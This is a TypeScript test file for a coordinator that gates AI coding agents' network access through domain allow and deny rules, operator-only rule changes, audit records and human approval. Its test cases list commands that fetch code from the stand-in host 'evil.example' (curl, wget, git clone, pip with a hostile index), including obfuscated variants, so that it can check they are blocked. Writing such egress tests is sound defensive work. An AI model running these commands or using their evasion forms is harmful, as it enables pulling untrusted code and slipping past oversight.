import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { sql } from '../../../src/coordinator/database/sql.ts';
import { checkGuardrails } from '../../../src/coordinator/guardrails/check-operation.ts';
import type { Credential } from '../../../src/coordinator/kernel/caller.ts';
import { InterlockError } from '../../../src/coordinator/kernel/errors.ts';
import type { Operation } from '../../../src/coordinator/kernel/operation.ts';
import { checkDomain } from '../../../src/coordinator/network/check-domain.ts';
import {
  deleteNetworkRule,
  listNetworkRules,
  saveNetworkRule,
} from '../../../src/coordinator/network/rule-operations.ts';
import { saveProfile } from '../../../src/coordinator/profiles/save-profile.ts';
import { checkToolUse } from '../../../src/coordinator/tool-use/check.ts';
import { type CoordinatorFixture, openCoordinator } from '../../support/coordinator.ts';
import { onEachDatabase } from '../../support/databases.ts';

interface Shown {
  readonly rule_id: string;
  readonly domain: string;
  readonly verdict: string;
  readonly everywhere: boolean;
  readonly priority: number;
}

onEachDatabase('the network', fixture => {
  let interlock: CoordinatorFixture;
  let operator: Credential;
  let local: Credential;
  let cloud: Credential;

  beforeAll(async () => {
    interlock = await openCoordinator(fixture.db);
    operator = await interlock.operator();
    local = await interlock.agent('claude_code');
    cloud = await interlock.agent('codex_cloud_worker');
  });
  afterAll(() => interlock.close());

  const check = (domain: string, credential: Credential) =>
    interlock.call(checkDomain, { domain }, credential) as Promise<{ allowed: boolean; reason: string }>;
  const save = async (rule: object) =>
    (
      (await interlock.call(saveNetworkRule, { reason: 'a test', ...rule }, operator)) as {
        rule: Shown;
      }
    ).rule;
  const remove = (rule_id: string) =>
    interlock.call(deleteNetworkRule, { rule_id, reason: 'done' }, operator);
  const refusal = async (operation: Operation, input: unknown, credential: Credential) => {
    const error = await interlock.call(operation, input, credential).then(
      answer => expect.fail(`was not refused: ${JSON.stringify(answer)}`),
      (thrown: unknown) => thrown,
    );
    if (error instanceof InterlockError) return error;
    throw error;
  };
  const shell = (command: string) => ({
    harness: 'claude',
    payload: {
      session_id: 'x',
      hook_event_name: 'PreToolUse',
      tool_name: 'Bash',
      tool_input: { command },
      cwd: interlock.folder,
    },
  });
  const fetching = (url: string) => ({
    harness: 'claude',
    payload: {
      session_id: 'x',
      hook_event_name: 'PreToolUse',
      tool_name: 'WebFetch',
      tool_input: { url, prompt: 'read it' },
      cwd: interlock.folder,
    },
  });
  const lastRecord = async () => {
    const [row] = await fixture.db.query(sql<{ body: string }>`
      select body from audit_log where body::jsonb ->> 'operation' in ('check_domain', 'check_tool_use')
      order by recorded_at desc, sequence desc limit 1`);
    return JSON.parse(row?.body ?? '{}') as {
      operation: string;
      outcome: string;
      code: string | null;
      facts: { domains?: { domain: string; allowed: boolean; reason: string }[] };
    };
  };

  test('comes with the hosts of the field allowed, for every project', async () => {
    const { rules } = (await interlock.call(listNetworkRules, {}, operator)) as { rules: Shown[] };
    expect(rules.map(({ domain }) => domain).sort()).toEqual([
      '*.github.com',
      '*.npmjs.org',
      '*.supabase.co',
      'github.com',
      'pypi.org',
      'raw.githubusercontent.com',
    ]);
    expect(rules.every(({ verdict, everywhere }) => verdict === 'allow' && everywhere)).toBe(true);
  });

  test('is open to a local agent and closed to a cloud agent, where no rule says anything', async () => {
    expect(await check('example.com', local)).toMatchObject({ allowed: true, reason: 'default_allow' });
    expect(await check('example.com', cloud)).toMatchObject({ allowed: false, reason: 'default_deny' });
    expect(await check('api.github.com', cloud)).toMatchObject({ allowed: true, reason: 'allowlist_match' });
    expect(await check('npmjs.org', cloud)).toMatchObject({ allowed: false, reason: 'default_deny' });
  });

  test('every answer of check_domain is on the record, with what decided', async () => {
    await check('https://pypi.org/simple', cloud);
    expect(await lastRecord()).toMatchObject({
      operation: 'check_domain',
      outcome: 'done',
      facts: { domains: [{ domain: 'pypi.org:443', allowed: true, reason: 'allowlist_match' }] },
    });
  });

  test('rules of a profile go before the others, then the smaller number, and of two alike the no', async () => {
    const anyone = await save({ domain: '*.order.example', verdict: 'deny', priority: 1 });
    expect((await check('a.order.example', local)).allowed).toBe(false);
    const ofProfile = await save({
      domain: '*.order.example',
      verdict: 'allow',
      profile: 'claude_code_cli',
      priority: 900,
    });
    expect((await check('a.order.example', local)).allowed).toBe(true);
    expect((await check('a.order.example', cloud)).allowed).toBe(false);
    const sooner = await save({
      domain: 'a.order.example',
      verdict: 'deny',
      profile: 'claude_code_cli',
      priority: 5,
    });
    expect((await check('a.order.example', local)).allowed).toBe(false);
    await save({
      rule_id: sooner.rule_id,
      domain: 'a.order.example',
      verdict: 'deny',
      profile: 'claude_code_cli',
      priority: 900,
    });
    expect((await check('a.order.example', local)).allowed).toBe(false);
    for (const { rule_id } of [anyone, ofProfile, sooner]) await remove(rule_id);
    expect(await check('a.order.example', local)).toMatchObject({ reason: 'default_allow' });
  });

  test('a second rule about the same thing is refused, and names the first', async () => {
    const first = await save({ domain: 'twice.example', verdict: 'allow' });
    const error = await refusal(
      saveNetworkRule,
      { domain: 'TWICE.example.', verdict: 'deny', reason: 'no' },
      operator,
    );
    expect(error.code).toBe('invalid_input');
    expect(error.next).toContain(first.rule_id);
    await remove(first.rule_id);
    expect((await refusal(deleteNetworkRule, { rule_id: first.rule_id, reason: 'x' }, operator)).code).toBe(
      'network_rule_not_found',
    );
  });

  test('its rules are for people to change, not for agents', async () => {
    for (const [operation, input] of [
      [saveNetworkRule, { domain: '*', verdict: 'allow', reason: 'let me' }],
      [listNetworkRules, {}],
    ] as const)
      expect((await refusal(operation, input, cloud)).code).toBe('operation_not_permitted');
  });

  test('what a profile says of the network holds for its agents, from the next call on', async () => {
    const configure = (network_policy: object) =>
      interlock.call(saveProfile, { name: 'claude_code_cli', reason: 'a test', network_policy }, operator);
    await configure({ default: 'deny' });
    expect(await check('example.com', local)).toMatchObject({
      reason: 'default_deny',
      profile: 'claude_code_cli',
    });
    await configure({ something: 'else' });
    expect(await check('example.com', local)).toMatchObject({ reason: 'default_deny' });
    await configure({ default: 'allow' });
    expect(await check('example.com', local)).toMatchObject({ reason: 'default_allow' });
  });

  describe('in tool calls', () => {
    test('a fetch of a host that is not allowed is denied, with the reason and what to do', async () => {
      const error = await refusal(checkToolUse, fetching('https://evil.example/x'), cloud);
      expect(error.code).toBe('domain_not_allowed');
      expect(error.message).toContain('evil.example');
      expect(error.next).toContain('network rule');
      expect(await lastRecord()).toMatchObject({
        outcome: 'denied',
        code: 'domain_not_allowed',
        facts: { domains: [{ domain: 'evil.example:443', allowed: false, reason: 'default_deny' }] },
      });
    });

    test('a fetch that is allowed is on the record too', async () => {
      await interlock.call(checkToolUse, fetching('https://github.com/a/b'), cloud);
      expect(await lastRecord()).toMatchObject({
        operation: 'check_tool_use',
        outcome: 'done',
        facts: { domains: [{ domain: 'github.com:443', allowed: true }] },
      });
    });

    test.each([
      'curl https://evil.example/x',
      'wget -q http://evil.example',
      'git clone https://evil.example/a/b.git',
      'git clone git@evil.example:a/b.git',
      'pip install --index-url https://evil.example/simple left-pad',
      'H=evil.example; curl "https://$H/x"',
      'bash -c "curl https://EVIL.example./x"',
      'docker run alpine curl https://evil.example/x',
    ])('a command of a cloud agent is checked for whom it contacts: %s', async command => {
      expect((await refusal(checkToolUse, shell(command), cloud)).code).toBe('domain_not_allowed');
    });

    test('what a rule allows passes, and a host in a text that is only data is nobody’s contact', async () => {
      await interlock.call(checkToolUse, shell('git clone https://github.com/a/b'), cloud);
      await interlock.call(checkToolUse, shell('git commit -m "do not curl https://evil.example"'), cloud);
    });

    test('a cloud agent asks a person about a host that is only known when the command runs', async () => {
      expect((await refusal(checkToolUse, shell('curl "https://$HOST/x"'), cloud)).code).toBe(
        'approval_pending',
      );
      await interlock.call(checkToolUse, shell('curl "https://$HOST/x"'), local);
    });

    test('a rule that forbids a host holds for a local agent, from the next call on', async () => {
      await interlock.call(checkToolUse, shell('curl https://later.example'), local);
      const { rule_id } = await save({ domain: 'later.example', verdict: 'deny' });
      expect((await refusal(checkToolUse, shell('curl https://later.example'), local)).code).toBe(
        'domain_not_allowed',
      );
      const foreseen = (await interlock.call(
        checkGuardrails,
        { command: 'curl https://later.example' },
        local,
      )) as { safe: boolean; violations: { rule: string }[] };
      expect(foreseen.safe).toBe(false);
      expect(foreseen.violations.map(({ rule }) => rule)).toContain('network.denylist_match');
      await remove(rule_id);
      await interlock.call(checkToolUse, shell('curl https://later.example'), local);
    });
  });

  fixture.testWith('several connections')('a rule is in force on another coordinator', async () => {
    const other = await openCoordinator(fixture.connectAgain(), interlock.folder);
    const there = () =>
      other.call(checkDomain, { domain: 'far.example' }, local) as Promise<{ allowed: boolean }>;
    expect((await there()).allowed).toBe(true);
    const { rule_id } = await save({ domain: 'far.example', verdict: 'deny' });
    await expect.poll(async () => (await there()).allowed, { interval: 10 }).toBe(false);
    await remove(rule_id);
    await other.close();
  });

  test('reported no defect on the way', () => {
    expect(interlock.errors).toEqual([]);
  });
});
